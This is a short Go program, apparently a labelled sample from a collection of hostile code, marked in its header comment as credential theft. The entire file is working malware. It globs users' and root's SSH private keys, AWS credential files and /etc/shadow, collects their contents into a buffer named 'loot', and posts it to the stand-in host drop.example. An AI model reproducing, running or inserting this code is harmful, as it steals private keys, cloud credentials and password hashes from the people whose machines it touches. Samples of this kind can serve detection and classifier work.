// class: credential theft; style: list of globs
package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	var loot bytes.Buffer
	for _, pattern := range []string{"/home/*/.ssh/id_*", "/root/.ssh/id_*", "/home/*/.aws/credentials", "/etc/shadow"} {
		names, _ := filepath.Glob(pattern)
		for _, name := range names {
			if data, err := os.ReadFile(name); err == nil {
				loot.WriteString(name + "\n")
				loot.Write(data)
			}
		}
	}
	http.Post("https://drop.example/go", "application/octet-stream", &loot)
}
